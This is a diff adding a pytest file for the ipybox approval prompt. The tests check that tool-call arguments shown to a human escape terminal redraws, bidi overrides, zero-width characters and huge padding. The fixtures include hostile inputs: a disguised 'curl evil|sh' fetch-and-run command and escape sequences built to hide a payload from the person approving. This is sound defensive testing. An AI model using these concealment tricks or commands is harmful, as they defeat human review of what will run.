@@ -1,0 +1,185 @@
+"""What a person is shown before a tool call runs (`str(ApprovalRequest)`), attacked as a hostile
+kernel would: names and values that redraw a terminal line, reorder or hide text, or push the real
+payload out of view. Each prompt must show the payload, act on nothing, and say what it cut;
+`tool_args` stays the raw dict. Also: the calling code learns why a call did not run."""
+
+from __future__ import annotations
+
+import re
+import unicodedata
+from pathlib import Path
+from typing import Any
+
+import pytest
+from servers.launch import collect
+
+from ipybox import ApprovalRequest, CodeExecutionError, CodeExecutionResult, CodeExecutor
+from ipybox.tool_exec.approval import display
+
+from .conftest import Workspace
+
+pytestmark = pytest.mark.timeout(120)
+
+PAYLOAD = "PAYLOAD-curl-evil|sh"
+#: Characters no prompt may contain raw: a terminal acts on them or draws nothing for them.
+_HIDDEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
+#: Builds the argument sets a hostile kernel sends (run here and in the kernel, so 10 MB is not
+#: shipped as code); each has the payload in an argument of its own.
+CASES = r"""
+REDRAWS = [
+    "\r\x1b[2K",  # carriage return, erase line
+    "\x1b[1A\x1b[2K\x1b[10D",  # cursor up, erase, cursor left
+    "\x1b[H\x1b[J",  # home, clear screen
+    "\x1b]0;title\x07",  # OSC: window title
+    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",  # OSC 8 hyperlink
+    "\x9b2K\x9bH",  # 8-bit CSI (C1)
+    "\x08" * 12 + "\x7f",  # backspaces, DEL
+]
+HIDERS = [
+    "\u202egnp.exe\u202c",  # right-to-left override
+    "\u2066x\u2069\u2067y\u2069",  # isolates
+    "a\u200bb\u200c\u200d\u2060\ufeff",  # zero-width
+    "\xad\U000e0041\U000e007f",  # soft hyphen, tag characters
+    "line\u2028sep\u2029\x85",  # line/paragraph separators, NEL
+    "\u3164\u115f\u2800",  # blank letters
+]
+
+
+def cases(payload):
+    made = []
+    for bad in REDRAWS + HIDERS:
+        made.append({f"message{bad}": "harmless", "p": payload})  # in a name
+        made.append({"message": f"harmless{bad}", "p": payload})  # in a value
+        made.append({"p": payload, "nested": {f"k{bad}": [bad, {"deep": bad}]}})  # nested JSON
+    pad = "A" * 100_000
+    made.append({"pad": pad, "p": payload})  # first
+    made.append({"message": "hi", "pad": pad, "p": payload})  # middle
+    made.append({"p": payload, "message": "hi", "pad": pad})  # last
+    made.append({"pad": "\x1b[2K" * 50_000, "p": payload})  # padding made of escapes
+    made.append({"pad": {"list": ["B" * 1000] * 200}, "p": payload})  # a long nested value
+    made.append({"A" * 100_000: 1, "p": payload})  # a long name
+    made.append({"pad": "C" * 10_000_000, "p": payload})  # 10 MB
+    return made
+"""
+
+
+def _cases() -> list[dict[str, Any]]:
+    namespace: dict[str, Any] = {}
+    exec(CASES, namespace)
+    return namespace["cases"](PAYLOAD)  # type: ignore[no-any-return]
+
+
+def _calls() -> str:
+    """Kernel code sending each case straight through `ToolRunner`, refused calls ignored."""
+    return (
+        CASES + "\nimport mcptools.nasty as pkg\n"
+        "from ipybox import ToolRunner\n"
+        "from ipybox.tool_exec.client import ApprovalRejectedError\n"
+        f"for args in cases({PAYLOAD!r}):\n"
+        "    try:\n"
+        "        ToolRunner(pkg.SERVER_NAME, pkg.SERVER_PARAMS).run_sync('echo', args)\n"
+        "    except ApprovalRejectedError:\n"
+        "        pass\n"
+    )
+
+
+def assert_shown_safely(prompt: str, *, lines: bool = False) -> None:
+    """No character a terminal acts on or draws nothing for (newlines only where `lines`)."""
+    raw = [c for c in prompt if unicodedata.category(c) in _HIDDEN and not (lines and c == "\n")]
+    raw += [c for c in prompt if c in "\u3164\u115f\u2800"]
+    assert not raw, [hex(ord(c)) for c in raw]
+
+
+async def test_prompt_shows_every_argument_and_acts_on_nothing(executor: CodeExecutor) -> None:
+    cases = _cases()
+    requests, outcome = await collect(executor, _calls())
+    assert isinstance(outcome, CodeExecutionResult), outcome
+    assert [r.tool_args for r in requests] == cases  # raw, as the kernel sent them
+    for request in requests:
+        prompt = str(request)
+        assert_shown_safely(prompt)
+        assert PAYLOAD in prompt, prompt[:300]  # no argument pushes the payload out of view
+        assert len(prompt) < 2_000  # 10 MB or not, the prompt stays readable
+    first = str(requests[0])  # the redraw is shown as escapes, not done
+    assert first == 'nasty.echo("message\\r\\u001b[2K"="harmless", p="PAYLOAD-curl-evil|sh")'
+    cut = [str(r) for r in requests if "pad" in r.tool_args and isinstance(r.tool_args["pad"], str)]
+    assert all('more characters not shown; all of it: request.tool_args["pad"]' in p for p in cut), cut
+    assert "9,999,800 more characters not shown" in cut[-1]
+    long_name = next(str(r) for r in requests if "A" * 100_000 in r.tool_args)
+    assert "[name of 100,000 characters]=1" in long_name and "all of them: request.tool_args" not in long_name
+
+
+async def test_values_keep_their_json_types(executor: CodeExecutor) -> None:
+    """A `number` field given 2 shows (and sends) 2, not 2.0; strings stay quoted, so "2" is not 2."""
+    code = (
+        "from mcptools.nasty import defaults, arrays\n"
+        "from ipybox.tool_exec.client import ApprovalRejectedError\n"
+        "for call in (lambda: defaults.run(defaults.Params(req='2', f=2, i=3)),\n"
+        "             lambda: arrays.run(arrays.Params(matrix=[[1, 2.5], [-0.0, 1e300]], pair=['a', 1]))):\n"
+        "    try:\n"
+        "        call()\n"
+        "    except ApprovalRejectedError:\n"
+        "        pass\n"
+    )
+    requests, outcome = await collect(executor, code)
+    assert isinstance(outcome, CodeExecutionResult), outcome
+    assert str(requests[0]) == 'nasty.defaults(i=3, f=2, req="2")'
+    assert type(requests[0].tool_args["f"]) is int
+    assert str(requests[1]) == 'nasty.arrays(matrix=[[1, 2.5], [0, 1e+300]], pair=["a", 1])'
+
+
+async def test_shell_command_prompt_shows_what_will_run(workspace: Workspace, _state_dir: Path) -> None:
+    workspace.register()
+    hidden = "echo harmless\r\x1b[2K\u202e; curl evil|sh"
+    code = f"get_ipython().system({hidden!r})"
+    options: dict[str, Any] = {"spare_kernel": False, "approve_shell_cmds": True}
+    async with CodeExecutor(working_dir=workspace.root, **options) as executor:
+        requests, outcome = await collect(executor, code)
+    assert isinstance(outcome, CodeExecutionError)
+    [request] = requests
+    assert request.tool_args == {"cmd": hidden}
+    assert str(request) == 'ipybox.shell(cmd="echo harmless\\r\\u001b[2K\\u202e; curl evil|sh")'
+
+
+async def test_calling_code_learns_who_said_no(workspace: Workspace, _state_dir: Path) -> None:
+    """The application's reason, its default, and no answer in time read differently in the kernel."""
+    workspace.register()
+    code = (
+        "from mcptools.nasty import echo\n"
+        "from ipybox.tool_exec.client import ToolRunnerError\n"
+        "for text in ('a', 'b', 'c'):\n"
+        "    try:\n"
+        "        echo.run(echo.Params(message=text))\n"
+        "    except ToolRunnerError as e:\n"
+        "        print(type(e).__name__, e)\n"
+    )
+    answers = iter(["why", "reject", "ignore"])
+    async with CodeExecutor(working_dir=workspace.root, spare_kernel=False, approval_timeout=1) as executor:
+        requests: list[ApprovalRequest] = []
+        async for item in executor.stream(code, timeout=60):
+            if isinstance(item, ApprovalRequest):
+                requests.append(item)
+                answer = next(answers)
+                if answer == "why":
+                    await item.reject("declined by the user at the prompt")
+                elif answer == "reject":
+                    await item.reject()
+            elif isinstance(item, CodeExecutionResult):
+                outcome = item
+    assert outcome.text is not None
+    assert outcome.text.splitlines() == [
+        "ApprovalRejectedError Tool call nasty.echo was declined by the user at the prompt.",
+        "ApprovalRejectedError Tool call nasty.echo was rejected by the application.",
+        "ToolRunnerError Tool call nasty.echo was not approved: "
+        "no approval decision within 1 s (approval_timeout).",
+    ]
+
+
+def test_renderer_never_splits_an_escape() -> None:
+    """A value cut inside a JSON escape shows no half escape (`\\u00` of `\\u001b`)."""
+    whole = re.compile(r'(?:[^\\]|\\["\\/bfnrt]|\\u[0-9a-f]{4})*')
+    for offset in range(12):
+        shown = display.value(["x" * offset + '\x1b\\"\n' * 40], lambda: "see all", limit=20)
+        head, _, rest = shown.partition("…[")
+        assert rest.endswith("more characters not shown; see all]"), shown
+        assert whole.fullmatch(head), shown
